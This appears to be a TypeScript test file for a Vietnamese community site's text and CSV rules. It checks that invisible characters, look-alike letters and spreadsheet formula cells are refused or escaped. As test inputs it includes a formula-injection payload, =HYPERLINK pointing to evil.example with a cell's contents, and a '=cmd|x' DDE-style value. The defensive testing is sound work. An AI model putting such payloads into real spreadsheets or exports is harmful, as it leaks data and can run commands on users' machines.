/**
 * The one text rule (src/lib/content-rules/text-rule.ts through `text()`), and the one CSV writer
 * (src/lib/tables/csv-write.ts): text that is not text is refused with its position, a cell that Excel
 * would run is refused in the tables and written as text in every CSV the site publishes.
 */
import { describe, expect, it } from 'vitest';
import { formatProblem } from '../../src/lib/content-rules/content-errors.ts';
import { findContactDetails } from '../../src/lib/content-rules/privacy.ts';
import { textFault } from '../../src/lib/content-rules/text-rule.ts';
import { parseCsv } from '../../src/lib/tables/csv.ts';
import { writeCsv } from '../../src/lib/tables/csv-write.ts';
import { householdsTemplate } from '../../src/lib/tables/participation-templates.ts';
import { validateFrontmatter } from '../../src/lib/content-rules/validate.ts';
import { newsSchema } from '../../src/schemas/news.ts';
import { storySchema } from '../../src/schemas/stories.ts';
import { groupRowSchema } from '../../src/schemas/tables.ts';
import { z } from 'astro/zod';

const plainImage = () => z.string();
const groups = (rows: string) =>
  parseCsv(`code,name,hall\n${rows}`, 'groups.csv', groupRowSchema).problems.map(formatProblem);

describe('text that is not text', () => {
  it('refuses a NUL in a summary and a right-to-left override in an author name, by position', () => {
    const news = validateFrontmatter(
      newsSchema(plainImage),
      '---\ntitle: Tin\ndate: 2025-10-20\nsummary: "Tóm\\0 tắt"\n---\n',
      'content/news/x.md',
    );
    expect(news.result.ok ? [] : news.result.problems.map(formatProblem)).toMatchInlineSnapshot(`
      [
        "content/news/x.md, dòng 4, trường "summary": Tóm tắt có ký tự điều khiển không nhìn thấy (U+0000) ở vị trí 4, thường do chép từ tệp khác. Xóa rồi gõ lại đoạn quanh vị trí đó.",
      ]
    `);
    const story = validateFrontmatter(
      storySchema(plainImage, ['to-1'], ['thanh-nien-so']),
      '---\ntitle: Chuyện\nauthor:\n  name: "Bà \\u202ENaL"\ngroup: to-1\ncategory: thanh-nien-so\ndate: 2025-10-20\nsummary: Tóm tắt.\n---\n',
      'content/stories/x.md',
    );
    expect(story.result.ok ? [] : story.result.problems.map(formatProblem)).toMatchInlineSnapshot(`
      [
        "content/stories/x.md, dòng 4, trường "author.name": Tên người kể có ký tự đảo chiều chữ (U+202E) ở vị trí 4, làm chữ hiện sai thứ tự. Xóa rồi gõ lại đoạn quanh vị trí đó.",
      ]
    `);
  });

  it('refuses a title made only of zero-width characters', () => {
    const news = validateFrontmatter(
      newsSchema(plainImage),
      '---\ntitle: "\\u200B\\u200C\\u200D"\ndate: 2025-10-20\nsummary: Tóm tắt.\n---\n',
      'content/news/x.md',
    );
    expect(news.result.ok ? [] : news.result.problems.map(formatProblem)).toMatchInlineSnapshot(`
      [
        "content/news/x.md, dòng 2, trường "title": Tiêu đề có ký tự ẩn (U+200B) ở vị trí 1: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.",
      ]
    `);
  });

  it('names a hidden character or a look-alike letter in a group code or name, by position', () => {
    // "to-\u200B1": the zero-width space is the 4th character; "Тổ" starts with a Cyrillic Т.
    expect(groups('to-\u200B1,Tổ dân phố số 1,\nto-2,Тổ dân phố số 2,\nto-3,Tổ dân phố sо 3,'))
      .toMatchInlineSnapshot(`
      [
        "groups.csv, dòng 2, cột "code": Mã tổ có ký tự ẩn (U+200B) ở vị trí 4: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.",
        "groups.csv, dòng 3, cột "name": Tên tổ có chữ "Т" ở vị trí 1 trông giống chữ thường nhưng là chữ Kirin (tiếng Nga). Gõ lại chữ đó bằng bàn phím tiếng Việt.",
        "groups.csv, dòng 4, cột "name": Tên tổ có chữ "о" ở vị trí 13 trông giống chữ thường nhưng là chữ Kirin (tiếng Nga). Gõ lại chữ đó bằng bàn phím tiếng Việt.",
      ]
    `);
  });

  it('accepts Vietnamese as it is written, emoji and all', () => {
    expect(groups('to-1,Tổ dân phố số 1 – Khu Đông Hải,Nhà văn hóa 🏠 số 1')).toEqual([]);
  });
});

describe('hidden and look-alike text the rule missed before', () => {
  /** "0901234567" spelt in invisible tag characters (U+E0030 is a tag "0"). */
  const TAG_PHONE = [...'0901234567']
    .map((digit) => String.fromCodePoint(0xe0000 + digit.charCodeAt(0)))
    .join('');

  it('refuses tag characters, Hangul fillers, a blank Braille letter and piled-up marks', () => {
    expect({
      tags: textFault(`Gọi ${TAG_PHONE} nhé`),
      hangulTitle: textFault('\u3164\u3164\u3164'),
      hangulJamoFiller: textFault('Tổ\u1160 1'),
      halfwidthFiller: textFault('\uFFA0'),
      braille: textFault('Tổ \u2800'),
      zalgo: textFault(`Tổ 1 a${'\u0301'.repeat(200)}`),
      threeMarks: textFault('e\u0302\u0323\u0301'),
    }).toEqual({
      tags: 'có ký tự ẩn (U+E0030) ở vị trí 5: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.',
      hangulTitle:
        'có ký tự ẩn (U+3164) ở vị trí 1: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.',
      hangulJamoFiller:
        'có ký tự ẩn (U+1160) ở vị trí 3: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.',
      halfwidthFiller:
        'có ký tự ẩn (U+FFA0) ở vị trí 1: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.',
      braille:
        'có ký tự ẩn (U+2800) ở vị trí 4: trông như không có gì nhưng làm chữ khác đi. Xóa rồi gõ lại đoạn quanh vị trí đó.',
      zalgo:
        'có 200 dấu chồng lên một chữ ở vị trí 7; chữ tiếng Việt có nhiều nhất hai dấu. Xóa rồi gõ lại chữ đó.',
      threeMarks:
        'có 3 dấu chồng lên một chữ ở vị trí 2; chữ tiếng Việt có nhiều nhất hai dấu. Xóa rồi gõ lại chữ đó.',
    });
  });

  it('refuses look-alike letters from any script, by Unicode’s confusables data', () => {
    expect({
      mathBold: textFault('𝐓ổ dân phố'),
      cherokee: textFault('Tổ dân phố Ꭰông'),
      latinWordOfCyrillic: textFault('Тор'),
      greekInside: textFault('Tổ dân phố sο 3'),
    }).toEqual({
      mathBold:
        'có chữ "𝐓" ở vị trí 1 trông giống chữ thường nhưng là chữ kiểu toán học. Gõ lại chữ đó bằng bàn phím tiếng Việt.',
      cherokee:
        'có chữ "Ꭰ" ở vị trí 12 trông giống chữ thường nhưng là chữ Cherokee. Gõ lại chữ đó bằng bàn phím tiếng Việt.',
      latinWordOfCyrillic:
        'có chữ "Т" ở vị trí 1 trông giống chữ thường nhưng là chữ Kirin (tiếng Nga). Gõ lại chữ đó bằng bàn phím tiếng Việt.',
      greekInside:
        'có chữ "ο" ở vị trí 13 trông giống chữ thường nhưng là chữ Hy Lạp. Gõ lại chữ đó bằng bàn phím tiếng Việt.',
    });
  });

  it('accepts Vietnamese in NFC and in NFD, emoji of every kind, Han and words of other scripts', () => {
    const vietnamese =
      'Đăng ký học số: Nguyễn Thị Ệ, Phường Đông Hải, tổ 1 – ổn định, ưu tiên người cao tuổi';
    for (const value of [
      vietnamese,
      vietnamese.normalize('NFD'),
      'Chúc mừng 🎉👍🏽 ❤️ 1️⃣ 👨‍👩‍👧 🇻🇳 🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}',
      '学习数字技能 一二三',
      'Привет, Ελληνικά',
    ])
      expect([value, textFault(value)]).toEqual([value, undefined]);
  });

  it('lets the privacy check read a phone number hidden in tags or broken by invisible characters', () => {
    expect(findContactDetails(`Gọi ${TAG_PHONE} nhé`).map((match) => match.kind)).toEqual([
      'phone',
    ]);
    expect(
      findContactDetails('Gọi 09\u200B01\u2060234\u00AD567').map((match) => match.kind),
    ).toEqual(['phone']);
    expect(findContactDetails('Thư: lan@gmаil.com').map((match) => match.kind)).toEqual(['email']);
  });
});

describe('cells a spreadsheet would run', () => {
  it('are refused in names, halls and units, naming the line and the column', () => {
    expect(
      groups(
        [
          'to-1,"=HYPERLINK(""https://evil.example/?d=""&A1,""Bấm cập nhật"")",',
          'to-2,@SUM(1),',
          'to-3,Tổ 3,+84 nhà văn hóa',
          'to-4,Tổ 4,"-1+1"',
        ].join('\n'),
      ),
    ).toMatchInlineSnapshot(`
      [
        "groups.csv, dòng 2, cột "name": Tên tổ "=HYPERLINK("https://evil.example/?d="&A1,"Bấm cập nhật")" bắt đầu bằng dấu =, Excel sẽ hiểu là công thức và chạy nó. Bỏ dấu đó ở đầu, ví dụ: Tổ dân phố số 1",
        "groups.csv, dòng 3, cột "name": Tên tổ "@SUM(1)" bắt đầu bằng dấu @, Excel sẽ hiểu là công thức và chạy nó. Bỏ dấu đó ở đầu, ví dụ: Tổ dân phố số 1",
        "groups.csv, dòng 4, cột "hall": Nơi hỗ trợ "+84 nhà văn hóa" bắt đầu bằng dấu +, Excel sẽ hiểu là công thức và chạy nó. Bỏ dấu đó ở đầu, ví dụ: Nhà văn hóa tổ dân phố số 1",
        "groups.csv, dòng 5, cột "hall": Nơi hỗ trợ "-1+1" bắt đầu bằng dấu -, Excel sẽ hiểu là công thức và chạy nó. Bỏ dấu đó ở đầu, ví dụ: Nhà văn hóa tổ dân phố số 1",
      ]
    `);
  });

  it('are written as text in every CSV the site publishes', () => {
    const csv = writeCsv(
      ['a', 'b'],
      [
        ['=1+1', '+84'],
        ['-2', '@x'],
        ['\tTab', 'Tổ 1'],
        [3, null],
      ],
    );
    expect(csv).toBe("\uFEFFa,b\r\n'=1+1,'+84\r\n'-2,'@x\r\n'\tTab,Tổ 1\r\n3,\r\n");
    // A template of groups read before the rule came in is made safe as well.
    expect(householdsTemplate([{ code: 'to-1', name: '=cmd|x' }])).toContain(",to-1,'=cmd|x,");
  });

  it('include the full-width and small forms of = + - @, and a starter behind spaces', () => {
    const starters = [
      '＝1+2',
      '＋84',
      '－1',
      '＠SUM(1)',
      '﹦1',
      '﹢1',
      '﹣1',
      '﹫x',
      ' =1+2',
      '\u3000＝1',
      '\rx',
    ];
    expect(
      writeCsv(
        ['a'],
        starters.map((cell) => [cell]),
      ),
    ).toBe(
      `\uFEFFa\r\n${starters.map((cell) => (/[\r]/.test(cell) ? `"'${cell}"` : `'${cell}`)).join('\r\n')}\r\n`,
    );
    expect(groups('to-1,＝1+2,')).toEqual([
      'groups.csv, dòng 2, cột "name": Tên tổ "＝1+2" bắt đầu bằng dấu ＝, Excel sẽ hiểu là công thức và chạy nó. Bỏ dấu đó ở đầu, ví dụ: Tổ dân phố số 1',
    ]);
    // Text that only contains the signs is text.
    expect(writeCsv(['a'], [['Tổ 1 = khu Đông'], ['Email: lan@example.com']])).toBe(
      '\uFEFFa\r\nTổ 1 = khu Đông\r\nEmail: lan@example.com\r\n',
    );
  });
});
